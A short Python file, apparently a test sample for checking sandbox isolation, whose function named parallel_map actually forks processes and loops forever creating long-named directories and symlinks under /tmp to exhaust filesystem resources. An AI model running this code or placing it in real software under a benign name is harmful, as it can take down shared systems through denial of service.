"""Makes empty files and folders without end, in many processes: no file's size counts them.

verdict: memory timeout error
needs: isolation
"""

import itertools
import os


def parallel_map(function, items, workers):
    os.fork()
    os.fork()
    os.mkdir(f"/tmp/attack-{os.getpid()}")
    os.chdir(f"/tmp/attack-{os.getpid()}")
    for number in itertools.count():
        os.mkdir(f"{number:0>200}")
        os.symlink("x" * 2000, f"link-{number}")
